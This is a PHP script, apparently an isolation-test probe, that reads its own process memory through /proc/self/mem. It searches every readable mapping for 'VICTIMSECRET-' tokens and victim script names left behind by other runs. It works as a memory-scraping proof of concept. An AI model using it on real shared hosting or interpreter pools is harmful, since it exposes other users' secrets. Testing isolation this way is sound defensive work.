<?php
// Scans every readable mapping of its own process for arguments another run was given
// (the needle is built, not spelled out, so this source never matches itself).
$needle = 'VICTIM' . 'SECRET-';
$found = [];
$mem = fopen('/proc/self/mem', 'rb');
stream_set_read_buffer($mem, 0);
foreach (file('/proc/self/maps', FILE_IGNORE_NEW_LINES) as $line) {
    $parts = preg_split('/\s+/', $line);
    if (!str_contains($parts[1], 'r') || str_starts_with($parts[5] ?? '', '[v')) {
        continue;
    }
    [$lo, $hi] = array_map('hexdec', explode('-', $parts[0]));
    if (fseek($mem, $lo) !== 0) {
        continue;
    }
    $data = '';
    while (strlen($data) < $hi - $lo) {
        $chunk = @fread($mem, min(1 << 20, $hi - $lo - strlen($data)));
        if ($chunk === false || $chunk === '') {
            break;
        }
        $data .= $chunk;
    }
    preg_match_all('/' . preg_quote($needle, '/') . '[A-Za-z0-9_]{1,40}|victim_[a-z0-9_]{1,40}\.php/', $data, $matches);
    foreach ($matches[0] as $match) {
        $found[$match] = true;
    }
}
ksort($found);
echo 'FOUND ', json_encode(array_keys($found)), "\n";
